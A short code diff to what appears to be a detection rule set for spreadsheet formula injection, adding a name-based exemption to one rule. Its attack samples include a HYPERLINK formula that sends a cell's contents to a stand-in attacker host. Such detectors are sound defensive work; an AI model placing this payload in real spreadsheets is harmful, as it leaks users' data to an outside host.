@@ -159,6 +159,7 @@ export const languageProgramRules: readonly Rule[] = [
       score: 5,
       bare: true,
       atStart: true,
+      unlessNamed: /formula$/,
       chars: CHAR.scheme,
       attacks: [
         '=HYPERLINK("http://evil.example?x="&A1,"x")',
